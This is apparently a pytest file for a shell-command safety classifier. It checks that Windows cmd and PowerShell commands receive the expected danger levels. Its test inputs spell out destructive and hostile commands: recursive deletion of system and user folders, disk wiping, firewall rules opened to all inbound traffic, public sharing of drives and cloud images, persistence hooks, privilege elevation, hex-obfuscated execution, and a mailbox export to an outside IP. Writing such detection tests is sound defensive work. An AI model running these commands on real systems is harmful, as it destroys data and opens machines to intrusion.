"""Session 18 (n18w): open Windows families as mechanisms, not spellings.

- D8: `ForEach-Object -InputObject VALUE` finds the end of a `( … )`/`@( … )` value with the
  quote-aware closer (a `)` inside a quoted string does not end it).
- Inbound firewall rules that let anyone in on every port (netsh `add rule dir=in
  action=allow` with no port/program/service/remote limit, `New-NetFirewallRule` whose
  defaults are Inbound and Allow): critical; a limit keeps it moderate.
- Elevation launchers: NirCmd (`elevate`, `runassystem`, `elevatecmd VERB`, `exec`),
  elevate.exe: privilege (critical) and the wrapped command judged.
- AWS Tools for PowerShell sharing an image/snapshot with group `all`: critical like the CLI.
- Win32_Share Create (wmic, Invoke-CimMethod, Invoke-WmiMethod, `[wmiclass]`) of a drive
  root, a profile or a system folder: critical like New-SmbShare / net share.
- Backup names: `bkp`/`bak` as a name part, not letters inside another word.
"""

from __future__ import annotations

import pytest

from aintern_ls.safety import assess
from tests.safety._levels import PS_BLOCK_WRAPPERS, B, C, D, M, S


@pytest.mark.parametrize(
    "command,shell,want",
    [
        # D8: a `)` inside a quoted string of the -InputObject value
        (
            "ForEach-Object -InputObject @('C:\\Windows', 'a)b') -Process"
            " { Remove-Item $_ -Recurse -Force }",
            "powershell",
            B,
        ),
        (
            "% -InputObject @('C:\\Users', \"x)\") { rm $_ -r -fo }",
            "powershell",
            B,
        ),
        ("ForEach-Object -InputObject @('a)b', 'c') -Process { Write-Host $_ }", "powershell", M),
        # firewall: inbound allow with no limit
        ("netsh advfirewall firewall add rule name=a dir=in action=allow", "cmd", C),
        ("netsh advfirewall firewall add rule name=a dir=in action=allow protocol=TCP", "cmd", C),
        ("New-NetFirewallRule -DisplayName x", "powershell", C),
        ("New-NetFirewallRule -DisplayName x -Dir:Inbound -Act:Allow -Prot Any", "powershell", C),
        ("New-NetFirewallRule -DisplayName x -RemoteAddress Any -LocalPort Any", "powershell", C),
        # … a limit (port, program, remote address, ICMP) or outbound/block/disabled: moderate
        ("netsh advfirewall firewall add rule name=a dir=in action=allow localport=80", "cmd", M),
        (
            "netsh advfirewall firewall add rule name=p dir=in action=allow protocol=icmpv4:8,any",
            "cmd",
            M,
        ),
        ("netsh advfirewall firewall add rule name=a dir=out action=allow", "cmd", M),
        ("netsh advfirewall firewall add rule name=a dir=in action=block", "cmd", M),
        (
            "netsh advfirewall firewall add rule name=a dir=in action=allow remoteip=10.0.0.0/8",
            "cmd",
            M,
        ),
        ("New-NetFirewallRule -DisplayName x -Program C:\\app\\a.exe", "powershell", M),
        ("New-NetFirewallRule -DisplayName x -Protocol ICMPv4 -IcmpType 8", "powershell", M),
        ("New-NetFirewallRule -DisplayName x -Direction Outbound", "powershell", M),
        ("New-NetFirewallRule -DisplayName x -Enabled False", "powershell", M),
        ("New-NetFirewallRule -DisplayName x -RemoteAddress LocalSubnet", "powershell", M),
        ("netsh advfirewall firewall show rule name=all", "cmd", S),
        # elevation launchers
        ("nircmd elevate cmd /c rd /s /q C:\\Windows", "cmd", B),
        ("nircmdc runassystem cmd /c rd /s /q C:\\Users", "cmd", B),
        ("nircmd.exe elevatecmd exec hide cmd /c rd /s /q C:\\Windows", "cmd", B),
        ("C:\\tools\\nircmd.exe elevate cmd /c format C: /q /y", "cmd", B),
        ("nircmd elevate notepad.exe", "cmd", C),
        ("nircmd elevatecmd regsetval sz HKLM\\Software\\x a b", "cmd", C),
        ("elevate -c rd /s /q C:\\Windows", "cmd", B),
        ("elevate.exe -k -n cmd", "cmd", C),
        ('nircmd elevate powershell -c "Remove-Item $env:windir -Recurse -Force"', "cmd", B),
        ("nircmd setsysvolume 65535", "cmd", M),
        ("echo nircmd elevate cmd /c rd /s /q C:\\Windows", "cmd", S),
        # AWS Tools for PowerShell: shared with every account
        (
            "Edit-EC2ImageAttribute -ImageId ami-1 -Attribute launchPermission"
            " -OperationType add -UserGroup all",
            "powershell",
            C,
        ),
        ("Edit-EC2SnapshotAttribute -SnapshotId snap-1 -GroupName 'all'", "powershell", C),
        (
            "Edit-EC2ImageAttribute -ImageId ami-1 -LaunchPermission_Add @{Group='all'}",
            "powershell",
            C,
        ),
        (
            "Edit-RDSDBClusterSnapshotAttribute -DBClusterSnapshotIdentifier s"
            " -AttributeName restore -ValuesToAdd all",
            "powershell",
            C,
        ),
        (
            "Edit-EC2ImageAttribute -ImageId ami-1 -Attribute launchPermission"
            " -OperationType remove -UserGroup all",
            "powershell",
            M,
        ),
        (
            "Edit-EC2ImageAttribute -ImageId ami-1 -Attribute launchPermission"
            " -OperationType add -UserId 123456789012",
            "powershell",
            M,
        ),
        # Win32_Share Create
        ('wmic share call create "","","","c","","C:\\",0', "cmd", C),
        (
            "Invoke-CimMethod -ClassName Win32_Share -MethodName Create"
            " -Arguments @{Path=$env:USERPROFILE; Name='h'; Type=[uint32]0}",
            "powershell",
            C,
        ),
        ("$s = [wmiclass]'Win32_Share'; $s.Create('C:\\Windows', 'w', 0)", "powershell", C),
        ("([wmiclass]'Win32_Share').Create('D:\\Projects\\site', 'site', 0)", "powershell", M),
        ("Write-Host \"([wmiclass]'Win32_Share').Create('C:\\', 'c', 0)\"", "powershell", S),
        ("Get-CimInstance Win32_Share", "powershell", S),
        ('wmic share call create "","","","u","","%USERPROFILE%",0', "cmd", C),
        ('wmic share call create "","","","p","","%TEMP%\\x",0', "cmd", M),
        # backup names: a name part, not letters inside a word
        (
            "Remove-AzResource -ResourceId /subscriptions/1/resourceGroups/rg/providers/"
            "Microsoft.Storage/storageAccounts/webkpistore -Force",
            "powershell",
            D,
        ),
        (
            "Remove-AzResource -ResourceId /subscriptions/1/resourceGroups/rg/providers/"
            "Microsoft.Storage/storageAccounts/sqlbkp -Force",
            "powershell",
            B,
        ),
        (
            "Remove-AzResource -ResourceType Microsoft.Storage/storageAccounts"
            " -ResourceName dbbak01 -ResourceGroupName rg -Force",
            "powershell",
            B,
        ),
    ],
)
def test_n18w_family(command: str, shell: str, want: int) -> None:
    assert assess(command, shell).level == want


@pytest.mark.parametrize(
    "inner,want",
    [
        ("New-NetFirewallRule -DisplayName x -Direction Inbound -Action Allow", C),
        ("Edit-EC2SnapshotAttribute -SnapshotId snap-1 -GroupName all -OperationType add", C),
        ("Invoke-CimMethod -ClassName Win32_Share -MethodName Create -Arguments @{Path='C:\\'}", C),
        ("nircmd elevate cmd /c rd /s /q C:\\Windows", B),
    ],
)
def test_n18w_wrapped_keeps_its_level(inner: str, want: int) -> None:
    for wrapper in PS_BLOCK_WRAPPERS:
        assert assess(wrapper.format(inner), "powershell").level == want, wrapper
    quoted = inner.replace("'", "''")
    assert assess(f"Invoke-Expression '{quoted}'", "powershell").level == want
    assert assess(f"pwsh -NoProfile -Command '{quoted}'", "powershell").level == want
    assert assess(f"sudo {inner}", "powershell").level >= want


# Second batch: FileInfo/DirectoryInfo member chains, select-all Where-Object filters, the
# collection methods .ForEach/.Where, session hooks (PSReadLine, engine/object events, prompt).
@pytest.mark.parametrize(
    "command,want",
    [
        # member chains from an item to the folder deleted
        ("([IO.FileInfo]'C:\\Windows\\notepad.exe').Directory.Delete($true)", B),
        ("(Get-Item $PROFILE).Directory.Parent.Parent.Delete($true)", B),
        ("[IO.Directory]::GetParent('C:\\Windows\\System32').Delete($true)", B),
        ("([IO.DirectoryInfo]'C:\\Windows\\Temp').Root.Delete($true)", B),
        ("(New-Object IO.FileInfo 'C:\\Windows\\System32\\cmd.exe').Directory.Delete($true)", B),
        ("([IO.FileInfo]'C:\\Windows\\notepad.exe').Directory.MoveTo('D:\\x')", B),
        ("$d = ([IO.FileInfo]'C:\\Windows\\notepad.exe').Directory; $d.Delete($true)", B),
        ("([IO.FileInfo]'C:\\temp\\b\\o.log').Directory.Delete($true)", D),
        ("(Get-Item $x).Directory.Delete($true)", D),
        ("([IO.FileInfo]'C:\\Windows\\notepad.exe').Directory.FullName", S),
        ("Write-Host \"([IO.FileInfo]'C:\\Windows\\n.exe').Directory.Delete($true)\"", S),
        # select-all filters: every item; a real filter: one item
        ("gci Cert:\\LocalMachine\\Root | ? Subject -like '*' | Remove-Item", B),
        ("gci Cert:\\LocalMachine\\CA | Where-Object { $_.Thumbprint -match '.*' } | ri", B),
        ("gci Cert:\\LocalMachine\\Root | Where-Object { $null -ne $_.Subject } | ri", B),
        ("gci Cert:\\LocalMachine\\Root | Where-Object -FilterScript { 1 } | ri", B),
        ("Get-WBBackupSet | Where-Object { $true } | Remove-WBBackupSet -Force", B),
        ("Get-ChildItem C:\\Users | Where-Object Name -Like -Value '*' | rm -r -fo", B),
        ("gci Cert:\\LocalMachine\\Root | Where-Object { $_.Issuer -like '*Contoso*' } | ri", C),
        ("gci Cert:\\LocalMachine\\Root | ? Thumbprint -eq 'A4348915' | ri", C),
        ("gci Cert:\\LocalMachine\\Root | Where-Object { $_.Subject -like '*' } | fl", S),
        # collection methods
        ("(Get-ChildItem C:\\Windows).ForEach({ Remove-Item $_.FullName -Recurse -Force })", B),
        ("@('C:\\Windows', 'C:\\Users').ForEach({ rm $_ -r -fo })", B),
        (
            "(Get-ChildItem C:\\Users -Directory).Where({ $_.Name -ne 'Public' })"
            ".ForEach({ Remove-Item $_.FullName -Recurse -Force })",
            B,
        ),
        ("@('PlugPlay','RpcSs').ForEach({ & sc.exe delete $_ })", B),
        ("(Get-ChildItem $HOME -Force).ForEach('Delete')", B),
        ("@('C:\\temp\\a', 'C:\\temp\\b').ForEach({ Remove-Item $_ -Recurse -Force })", D),
        ("(Get-ChildItem C:\\Windows).ForEach({ $_.Name })", S),
        ("(Get-ChildItem C:\\Windows).Where({ $_.Length -gt 1MB }).Count", S),
        # session hooks
        (
            "Set-PSReadLineKeyHandler -Key Enter -ScriptBlock { & $env:TEMP\\u.exe;"
            " [Microsoft.PowerShell.PSConsoleReadLine]::AcceptLine() }",
            C,
        ),
        ("Set-PSReadLineKeyHandler -Key Enter -ScriptBlock $sb", C),
        (
            "Set-PSReadLineKeyHandler -Chord Ctrl+j"
            " -ScriptBlock { Remove-Item C:\\Windows -r -fo }",
            B,
        ),
        ("Register-EngineEvent PowerShell.OnIdle -Action { & $env:APPDATA\\s.exe }", C),
        ("Register-EngineEvent PowerShell.OnIdle { .\\x.ps1 }", C),
        ("Register-ObjectEvent -InputObject $t -EventName Elapsed -Action { & $p }", C),
        ("Set-PSReadLineOption -AddToHistoryHandler { param($l) & C:\\x\\hist.exe $l; $true }", C),
        ("function prompt { & $env:LOCALAPPDATA\\p.exe; 'PS> ' }", C),
        ("$function:prompt = { & $env:TEMP\\x.exe; '> ' }", C),
        ("function global:prompt { Remove-Item C:\\Users -Recurse -Force; 'PS> ' }", B),
        ('function prompt { "PS $(Get-Location)> " }', S),
        ("Set-PSReadLineKeyHandler -Key F7 -ScriptBlock { Get-History | Out-GridView }", S),
        ("Write-Host 'function prompt { & $env:LOCALAPPDATA\\p.exe }'", S),
        ("Get-PSReadLineKeyHandler -Bound", S),
    ],
)
def test_n18w_family_two(command: str, want: int) -> None:
    assert assess(command, "powershell").level == want


@pytest.mark.parametrize(
    "inner,want",
    [
        ("([IO.FileInfo]'C:\\Windows\\notepad.exe').Directory.Delete($true)", B),
        ("gci Cert:\\LocalMachine\\Root | ? Subject -like '*' | Remove-Item", B),
        ("@('C:\\Windows', 'C:\\Users').ForEach({ rm $_ -r -fo })", B),
        ("Register-EngineEvent PowerShell.OnIdle -Action { & $env:APPDATA\\s.exe }", C),
    ],
)
def test_n18w_family_two_wrapped(inner: str, want: int) -> None:
    for wrapper in PS_BLOCK_WRAPPERS:
        assert assess(wrapper.format(inner), "powershell").level == want, wrapper
    quoted = inner.replace("'", "''")
    assert assess(f"Invoke-Expression '{quoted}'", "powershell").level == want
    assert assess(f'powershell -NoProfile -Command "{inner}"', "cmd").level == want


# Third batch (REDTEAM-NOTES round 16): File History's shipped binary name, one named backup
# folder of a backup share by UNC, a listing's .FullName as the delete's path, cmd's `set /p`
# target, $WhatIfPreference, the EFI partition given a letter by the Storage cmdlets.
@pytest.mark.parametrize(
    "command,shell,want",
    [
        ("fhmanagew -cleanup 0", "cmd", B),
        ("C:\\Windows\\System32\\FhManagew.exe -cleanup 0 -quiet", "powershell", B),
        ("FhManagew.exe -cleanup 90", "cmd", M),
        ("rd /s /q \\\\srv\\db-backups\\node7", "cmd", B),
        ("Remove-Item \\\\srv\\bkp$\\node7 -Recurse -Force", "powershell", B),
        ("rd /s /q \\\\srv\\bkp$", "cmd", B),
        ("rd /s /q \\\\srv\\backups\\node7\\db.bak", "cmd", D),
        ("rd /s /q \\\\srv\\projects\\node7", "cmd", D),
        ("dir \\\\srv\\backups\\node7", "cmd", S),
        ("Remove-Item (Get-ChildItem $env:windir).FullName -Recurse -Force", "powershell", B),
        ("ri (gci ~ -Force).FullName -r -fo", "powershell", B),
        (
            "$f = (dir C:\\Users -Directory).FullName; Remove-Item $f -Recurse -Force",
            "powershell",
            B,
        ),
        ("Remove-Item (Get-ChildItem C:\\temp\\x).FullName -Recurse", "powershell", D),
        ("Remove-Item (Get-ChildItem C:\\Windows -Filter *.tmp).FullName", "powershell", D),
        ("set /p T=<t.txt & rd /s /q %T%", "cmd", C),
        ('set /p T=<t.txt\ndel /f /s /q "%T%"', "cmd", C),
        ("set /p T=<t.txt & set T=C:\\temp\\x& rd /s /q %T%", "cmd", D),
        ("set /p T=<t.txt & echo %T%", "cmd", S),
        ("$WhatIfPreference = $true; Remove-Item C:\\Windows -Recurse -Force", "powershell", S),
        ("$global:WhatIfPreference = 1\nrm $HOME -r -fo", "powershell", S),
        (
            "$WhatIfPreference = $true; Remove-Item C:\\Windows -Recurse -Force -WhatIf:$false",
            "powershell",
            B,
        ),
        ("$WhatIfPreference = $true; cmd /c rd /s /q C:\\Windows", "powershell", B),
        ("$WhatIfPreference = $env:X; Remove-Item C:\\Windows -Recurse -Force", "powershell", B),
        (
            "Get-Partition | ? GptType -eq '{c12a7328-f81f-11d2-ba4b-00a0c93ec93b}'"
            " | Add-PartitionAccessPath -AccessPath Q:\\; Remove-Item Q:\\EFI -Recurse -Force",
            "powershell",
            B,
        ),
        (
            "Get-Partition -DiskNumber 0 | ? Type -eq 'System' | Set-Partition -NewDriveLetter P;"
            " rm P:\\EFI\\Microsoft -r -fo",
            "powershell",
            B,
        ),
        (
            "Add-PartitionAccessPath -DiskNumber 1 -PartitionNumber 2 -AccessPath F:\\;"
            " Remove-Item F:\\old -Recurse -Force",
            "powershell",
            D,
        ),
    ],
)
def test_n18w_family_three(command: str, shell: str, want: int) -> None:
    assert assess(command, shell).level == want


@pytest.mark.parametrize(
    "command,shell,want",
    [
        ("gci Cert:\\LocalMachine\\Root | ? { $_.Subject -ne '' } | ri", "powershell", B),
        ("gci Cert:\\LocalMachine\\Root | ? { $_.Subject -notmatch '^$' } | ri", "powershell", B),
        ("$d = @('C:\\Windows', 'C:\\Users'); $d.ForEach({ rm $_ -r -fo })", "powershell", B),
        (
            "Edit-EC2ImageAttribute -ImageId ami-1 -LaunchPermission @{Add=@(@{Group='all'})}",
            "powershell",
            C,
        ),
        (
            "Edit-EC2ImageAttribute -ImageId ami-1 -LaunchPermission @{Remove=@(@{Group='all'})}",
            "powershell",
            M,
        ),
        (
            "Grant-SmbShareAccess -Name 'C$' -AccountName Everyone -AccessRight Full",
            "powershell",
            C,
        ),
        (
            "Grant-SmbShareAccess -Name ADMIN$ -AccountName Everyone -AccessRight Read",
            "powershell",
            C,
        ),
        (
            "Grant-SmbShareAccess -Name Projects -AccountName devs -AccessRight Change",
            "powershell",
            M,
        ),
        (
            'wmic /namespace:\\\\root\\cimv2 path Win32_Share call create "","","","c","","C:\\",0',
            "cmd",
            C,
        ),
        (
            "netsh advfirewall firewall add rule name=x dir=in action=allow localport=1-65535",
            "cmd",
            C,
        ),
        (
            "New-NetFirewallRule -DisplayName x -LocalPort 0-65535 -Protocol TCP",
            "powershell",
            C,
        ),
    ],
)
def test_n18w_family_three_more(command: str, shell: str, want: int) -> None:
    assert assess(command, shell).level == want


@pytest.mark.parametrize(
    "command,shell,want",
    [
        (
            "$PSDefaultParameterValues.Add('*:Recurse', $true); Remove-Item $env:ProgramFiles",
            "powershell",
            B,
        ),
        (
            "$PSDefaultParameterValues.Add('Remove-Item:Recurse', 1); ri C:\\Users -Force",
            "powershell",
            B,
        ),
        ("Remove-Item -LiteralPath (Get-Location).Drive.Root -Recurse -Force", "powershell", B),
        ("Remove-Item $PWD.Drive.Root -Recurse -Force", "powershell", B),
        ("Remove-Item ([IO.Path]::GetTempPath() + '..\\..\\..') -Recurse -Force", "powershell", B),
        ("Remove-Item ([IO.Path]::GetTempPath()) -Recurse -Force", "powershell", D),
        ("del /f /s /q %LOCALAPPDATA%\\Microsoft\\Windows\\FileHistory\\*", "cmd", B),
        ('rd /s /q "%LOCALAPPDATA%\\Microsoft\\Windows\\FileHistory"', "cmd", B),
        ("rd /s /q %USERPROFILE%\\projects\\old", "cmd", D),
    ],
)
def test_n18w_neighbours(command: str, shell: str, want: int) -> None:
    assert assess(command, shell).level == want


@pytest.mark.parametrize(
    "command,want",
    [
        ("Register-EngineEvent PowerShell.OnIdle -Action { Start-Process $env:TEMP\\a.exe }", C),
        ("$ExecutionContext.InvokeCommand.PreCommandLookupAction = { & $env:TEMP\\h.exe }", C),
        (
            "$ExecutionContext.InvokeCommand.CommandNotFoundAction ="
            " { param($n, $e) Remove-Item C:\\Windows -Recurse -Force }",
            B,
        ),
        ("$ExecutionContext.InvokeCommand.PostCommandLookupAction = { Write-Verbose x }", S),
        ("$d = Get-Item C:\\w\\app\\bin; $d.Delete($true)", D),
    ],
)
def test_n18w_engine_hooks(command: str, want: int) -> None:
    assert assess(command, "powershell").level == want


@pytest.mark.parametrize(
    "command,want",
    [
        ("@(Get-ChildItem C:\\Windows) | Remove-Item -Recurse -Force", B),
        ("(gci ~ -Force) | ri -r -fo", B),
        (
            "((Get-ChildItem C:\\Users -Directory) | Where-Object { $_.Name -ne 'Public' })"
            " | ForEach-Object { rm $_.FullName -r -fo }",
            B,
        ),
        ("(Get-ChildItem C:\\temp\\x) | Remove-Item -Recurse -Force", D),
        ("(Get-Item C:\\x\\y).PSParentPath | Remove-Item -Recurse", D),
        ("(Get-ChildItem C:\\Windows) | Measure-Object", S),
    ],
)
def test_n18w_listing_in_parentheses(command: str, want: int) -> None:
    assert assess(command, "powershell").level == want


@pytest.mark.parametrize(
    "command,want",
    [
        (
            "$a = 'C:\\Windows','C:\\Users'; for ($i=0; $i -lt $a.Count; $i++)"
            " { Remove-Item $a[$i] -Recurse -Force }",
            B,
        ),
        (
            "$a = @('RpcSs','PlugPlay'); foreach ($i in 0..($a.Count - 1))"
            " { sc.exe delete $a[$i] }",
            B,
        ),
        (
            "$a = 'C:\\temp\\a','C:\\temp\\b'; for ($i=0; $i -lt $a.Length; $i++)"
            " { Remove-Item $a[$i] -Recurse -Force }",
            D,
        ),
        (
            "$a = 'C:\\Windows','C:\\Users'; for ($i=0; $i -lt $a.Count; $i++)"
            " { Write-Host $a[$i] }",
            S,
        ),
    ],
)
def test_n18w_index_loops(command: str, want: int) -> None:
    assert assess(command, "powershell").level == want


@pytest.mark.parametrize(
    "command,shell,want",
    [
        ("Set-NetFirewallRule -DisplayName * -Action Allow", "powershell", C),
        (
            "Get-NetFirewallRule -Direction Inbound | Set-NetFirewallRule -Action Allow",
            "powershell",
            C,
        ),
        (
            "Get-NetFirewallRule | ? { $_.Action -eq 'Block' } | Set-NetFirewallRule -Action Allow",
            "powershell",
            C,
        ),
        (
            "Get-NetFirewallRule -DisplayName Web | Set-NetFirewallRule -Action Allow",
            "powershell",
            M,
        ),
        ("Set-NetFirewallRule -DisplayName 'Web' -Action Allow", "powershell", M),
        ("netsh advfirewall firewall set rule name=all dir=in new action=allow", "cmd", C),
        ("netsh advfirewall firewall set rule name=web new action=allow", "cmd", M),
    ],
)
def test_n18w_firewall_rules_made_to_allow(command: str, shell: str, want: int) -> None:
    assert assess(command, shell).level == want


@pytest.mark.parametrize(
    "command,want",
    [
        (
            "Set-Content -Path $env:TEMP\\dp.txt -Value 'select disk 0','clean';"
            " diskpart /s $env:TEMP\\dp.txt",
            B,
        ),
        (
            "Set-Content -Path run.ps1 -Value 'Write-Host a', 'Remove-Item C:\\Windows -Recurse';"
            " & .\\run.ps1",
            B,
        ),
        ("Set-Content -Path notes.txt -Value 'a, b'", M),
        ("New-MailboxExportRequest -Mailbox ceo -FilePath \\\\203.0.113.9\\s\\ceo.pst", C),
        ("New-MailboxExportRequest -Mailbox ceo -FilePath \\\\10.0.0.5\\pst\\ceo.pst", M),
        ("New-MailboxExportRequest -Mailbox a -FilePath \\\\nas\\pst\\a.pst", M),
    ],
)
def test_n18w_written_lists_and_exports(command: str, want: int) -> None:
    assert assess(command, "powershell").level == want


@pytest.mark.parametrize(
    "command,shell,want",
    [
        (
            "(New-Object -ComObject Shell.Application).ShellExecute('cmd.exe', '', '', 'runas')",
            "powershell",
            C,
        ),
        (
            "$psi = New-Object Diagnostics.ProcessStartInfo 'cmd.exe'; $psi.Verb = 'runas';"
            " [Diagnostics.Process]::Start($psi)",
            "powershell",
            C,
        ),
        ("Start-Process -FilePath cmd.exe -ArgumentList '/k' -Verb RunAsUser", "powershell", C),
        ("elevate64 cmd /c rd /s /q C:\\Windows", "cmd", B),
        ('CPAU -u Administrator -p pass -ex "cmd /c rd /s /q C:\\Windows"', "cmd", B),
        ('CPAU -u Administrator -p pass -ex "notepad.exe"', "cmd", C),
    ],
)
def test_n18w_more_elevation(command: str, shell: str, want: int) -> None:
    assert assess(command, shell).level == want


# REDTEAM-NOTES round 16, probe16's Windows lines.
_HEX = "52656d6f76652d4974656d20433a5c57696e646f7773202d52656375727365"  # Remove-Item C:\Windows …


@pytest.mark.parametrize(
    "command,shell,want",
    [
        ("Set-PSBreakpoint -Command Get-ChildItem -Action { & $env:TEMP\\b.exe }", "powershell", C),
        (
            "Set-PSBreakpoint -Variable x -Mode Write -Action { Remove-Item C:\\Windows -r -fo }",
            "powershell",
            B,
        ),
        ("Set-PSBreakpoint -Script .\\s.ps1 -Line 3", "powershell", M),
        (
            "Remove-Item $ExecutionContext.SessionState.PSVariable.GetValue('HOME')"
            " -Recurse -Force",
            "powershell",
            B,
        ),
        (
            "$h = $ExecutionContext.SessionState.PSVariable.GetValue('HOME');"
            " Remove-Item $h -r -fo",
            "powershell",
            B,
        ),
        ("Write-Host $ExecutionContext.SessionState.PSVariable.GetValue('HOME')", "powershell", S),
        (
            f"iex (-join ('{_HEX}' -split '(..)' | ? {{ $_ }}"
            " | % { [char][Convert]::ToInt32($_, 16) }))",
            "powershell",
            B,
        ),
        (
            f"$h = '{_HEX}'; iex (-join ($h -split '(..)' | ? {{ $_ }}"
            " | % { [char][Convert]::ToByte($_, 16) }))",
            "powershell",
            B,
        ),
        ("set w=C:\\Windows& call rd /s /q %%w%%", "cmd", B),
        ("set w=C:\\temp\\x& call rd /s /q %%w%%", "cmd", D),
        ("echo %%w%%", "cmd", S),
    ],
)
def test_n18w_probe16_lines(command: str, shell: str, want: int) -> None:
    assert assess(command, shell).level == want


@pytest.mark.parametrize(
    "command,want",
    [
        (
            'for /f "tokens=3" %a in (\'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT'
            "\\CurrentVersion\" /v SystemRoot') do rd /s /q %a",
            B,
        ),
        (
            'for /f "tokens=3" %a in (\'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT'
            "\\CurrentVersion\" /v SystemRoot') do echo %a",
            S,
        ),
        (
            'for /f "tokens=3" %a in (\'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT'
            "\\CurrentVersion\" /v ProductName') do rd /s /q %a",
            D,
        ),
    ],
)
def test_n18w_for_over_reg_query(command: str, want: int) -> None:
    assert assess(command, "cmd").level == want


def test_fish_reading_is_linear_in_the_nesting_depth() -> None:
    """`bash._fish_substitutions` walked the tree asking each subshell for its `.parent`
    (tree-sitter finds a parent by walking down from the root): 10,000 characters of nested
    `iex (` cost 150 ms of CPU past the step budget. The walk now carries the parent's type."""
    import time

    from aintern_ls.safety import stack
    from aintern_ls.safety.analyser import _assess_cached
    from tests.safety.test_safety_sp5_speed import adversarial

    text = adversarial(10_000)["nested iex strings"]
    analyse = _assess_cached.__wrapped__

    def cpu() -> float:
        best = 1e9
        for _ in range(3):
            t0 = time.thread_time()
            analyse(text, "bash", None)
            best = min(best, time.thread_time() - t0)
        return best

    assert stack.reserved(cpu) < 0.08


@pytest.mark.parametrize(
    "command,want",
    [
        ("@('C:\\Windows','C:\\Users').Where({ $_ }) | Remove-Item -Recurse -Force", B),
        ("@('C:\\Windows','C:\\Users') | Where-Object { $_ } | Remove-Item -Recurse -Force", B),
        ("'C:\\Windows','C:\\temp' | ? { $_ -like 'C:\\W*' } | Remove-Item -Recurse -Force", B),
        ("'C:\\Windows','C:\\temp' | ? { $_ -like 'C:\\t*' } | Remove-Item -Recurse -Force", D),
        ("'C:\\Windows','C:\\Users' | ? { $_ } | Write-Output", S),
        (
            "Get-CimInstance Win32_Service -Filter \"Name='PlugPlay'\""
            " | Invoke-CimMethod -Name Delete",
            B,
        ),
        (
            "Get-CimInstance Win32_Service -Filter \"Name='FooSvc'\""
            " | Invoke-CimMethod -Name Delete",
            D,
        ),
        ("Remove-Item (Get-Content Env:windir) -Recurse -Force", B),
        ("$w = (Get-Item Env:windir).Value; Remove-Item $w -Recurse -Force", B),
        ("$w = (Get-Item Env:TEMP).Value; Remove-Item $w\\x -Recurse -Force", D),
        ("Get-Content Env:windir", S),
    ],
)
def test_n18w_rescore_lines(command: str, want: int) -> None:
    assert assess(command, "powershell").level == want
